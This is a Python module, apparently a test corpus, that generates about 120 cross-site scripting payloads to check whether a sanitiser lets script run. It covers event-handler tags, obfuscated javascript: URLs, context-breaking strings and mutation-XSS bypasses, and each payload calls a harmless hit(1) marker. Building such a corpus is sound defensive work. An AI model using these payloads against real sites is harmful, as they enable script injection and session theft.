"""A hundred and twenty scripts that somebody might write into a field; each calls hit() where it gets to run."""

TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open ",
    "iframe",
    "math",
    "a href=x tabindex=1",
]
EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onclick"]
URLS = [
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)",
    "java\tscript:hit(1)",
    " javascript:hit(1)",
    "\x01javascript:hit(1)",
    "javascript://x%0ahit(1)",
    "javascript&colon;hit(1)",
    "&#106;avascript:hit(1)",
    "&#x6A;avascript:hit(1)",
    "javascript&#9;:hit(1)",
    "vbscript:hit(1)",
    "data:text/html,<script>parent.hit(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "javascript:/*--></title></style></textarea></script>*/hit(1)",
]
BREAKING = ["</select>", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "-->", "]]>"]
WHOLE = ["<script>hit(1)</script>", "<img src=x onerror=hit(1)>", "<svg onload=hit(1)>"]

SCRIPTS = [
    # An event of some element; a way out of where the text stands, and then a script; an address that is one; and
    # what sanitisers and parsers have read differently from browsers.
    *(f"<{tag} {event}=hit(1)>" for tag in TAGS for event in EVENTS),
    *(f"{out}{script}" for out in BREAKING for script in WHOLE),
    *(f'<a href="{url}">x</a>' for url in URLS),
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    "<svg><style><img src=x onerror=hit(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<object data=javascript:hit(1)></object>",
    "<embed src=javascript:hit(1)>",
    "<form action=javascript:hit(1)><button>x</button></form>",
    "<button formaction=javascript:hit(1)>x</button>",
    "<base href=javascript:hit(1)//>",
    "<svg><a xlink:href=javascript:hit(1)><text>x</text></a></svg>",
    "<svg><script>hit(1)</script></svg>",
    "<template><script>hit(1)</script></template><img src=x onerror=hit(1)>",
    '![x](x"onerror="hit(1))<img src=x onerror=hit(1)>',
    "<!--><img src=x onerror=hit(1)>-->",
]
